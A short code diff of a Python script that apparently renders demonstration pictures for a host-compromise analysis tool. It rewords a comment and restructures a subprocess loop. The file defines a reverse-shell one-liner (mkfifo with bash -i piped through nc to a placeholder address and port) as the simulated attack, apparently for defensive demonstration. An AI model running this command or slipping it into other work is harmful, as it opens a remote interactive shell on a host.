@@ -26,7 +26,7 @@ from waiting import scaled
 
 COMMAND = "./dev pictures"
 WIRING, EXPLANATION, DEMONSTRATION = "wiring.svg", "explanation.svg", "demonstration.svg"
-# What anybody would type who has found a way to run commands on a host.
+# A usual command of somebody who can run commands on the host.
 ATTACK = "mkfifo f; cat f | bash -i 2>&1 | nc {address} {port} > f"
 ATTACK_LIMIT = 10
 DEMONSTRATION_LIMIT = 120
@@ -111,9 +111,9 @@ def explained(agent: pathlib.Path) -> tuple[str, str]:
     with tempfile.TemporaryDirectory(prefix="orlim-picture-") as folder:
         with attacked_host(folder) as shell:
             texts = []
-            for option in (["--dot"], []):
-                command = [str(agent), "explain", str(shell), *option]
-                done = subprocess.run(command, check=True, stdout=subprocess.PIPE, encoding="utf-8")
+            command = [str(agent), "explain", str(shell)]
+            for whole_command in ([*command, "--dot"], command):
+                done = subprocess.run(whole_command, check=True, stdout=subprocess.PIPE, encoding="utf-8")
                 texts.append(done.stdout.replace(folder, "/tmp"))
     graph, text = texts
     return drawn(graph), terminal_picture.svg(first_blocks(text))
